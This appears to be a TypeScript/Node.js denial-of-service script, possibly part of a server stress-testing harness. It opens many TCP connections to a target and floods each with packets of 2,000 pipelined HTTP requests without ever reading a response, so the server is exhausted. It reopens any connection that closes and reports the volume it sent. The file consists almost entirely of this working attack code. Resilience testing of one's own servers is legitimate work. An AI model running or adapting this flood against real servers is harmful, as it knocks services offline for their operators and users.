/**
 * Sends packets of 2,000 pipelined requests on many connections and never reads an answer; closed
 * connections are reopened. Arguments: URL, connections, and requests as `METHOD PATH`, used in
 * turn.
 */

import { connect } from 'node:net';
import { setTimeout } from 'node:timers/promises';
import { begin, end, isOver } from './until-told.ts';

const [url = '', connections = '', ...requests] = process.argv.slice(2);
const { hostname, port } = new URL(url);
const packet = requests
  .map((line) => `${line} HTTP/1.1\r\nHost: a\r\n\r\n`)
  .join('')
  .repeat(2_000 / requests.length);
let opened = 0;
let packets = 0;

async function attack(): Promise<void> {
  const socket = connect({ host: hostname, port: Number(port) });
  socket.on('error', () => {});
  // No data listener, so nothing is read.
  socket.pause();
  opened += 1;
  while (!socket.destroyed && !isOver()) {
    if (!socket.writableNeedDrain) {
      socket.write(packet);
      packets += 1;
      if (packets === Number(connections)) begin();
    }
    await setTimeout(250);
  }
  socket.destroy();
}

async function attackAgainAndAgain(): Promise<void> {
  while (!isOver()) await attack();
}

await Promise.all(Array.from({ length: Number(connections) }, attackAgainAndAgain));
end({ opened, sentMiB: Math.round((packets * packet.length) / 2 ** 20) });
